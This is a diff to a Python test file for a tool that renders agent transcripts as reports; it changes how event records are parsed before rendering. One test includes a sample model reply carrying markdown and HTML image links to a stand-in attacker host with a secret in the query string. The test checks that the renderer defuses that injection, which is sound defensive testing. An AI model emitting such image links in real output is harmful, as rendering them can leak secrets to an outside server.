@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 
+from runner.record.logged import parse_record
 from runner.report.markdown import fence
 from runner.report.transcript import render, split_result
 
@@ -36,7 +37,7 @@ def test_spill_paths_warnings_compaction_and_interrupts_are_shown():
          "summary": "what happened so far"},
         {"type": "interrupted", "signal": "SIGTERM", "during": "tool_call"},
     ]
-    text = render(events, {"status": "interrupted", "exit_code": 130, "answer": None})
+    text = render(map(parse_record, events), {"status": "interrupted", "exit_code": 130, "answer": None})
     assert '`{"path": "big.txt"}`' in text and "by no rule matched (the mode's default)" in text
     assert "line 39\n```" in text and "line 40" not in text and "60 more line(s) below not shown" in text
     assert "full output: `/runs/r/outputs/spill-1.txt`" in text
@@ -50,6 +51,6 @@ def test_the_models_text_cannot_fetch_images_or_break_the_page():
     bad = "done ![x](https://attacker.example/?d=secret) </details> <img src=https://attacker.example/p>"
     events = [{"type": "model_request", "turn": 1},
               {"type": "model_response", "turn": 1, "message": {"content": bad}}]
-    text = render(events, {"status": "success", "exit_code": 0, "answer": bad})
+    text = render(map(parse_record, events), {"status": "success", "exit_code": 0, "answer": bad})
     assert "![" not in text and "</details>" not in text and "<img" not in text
     assert "attacker.example/?d=secret" in text  # still there to read, as text
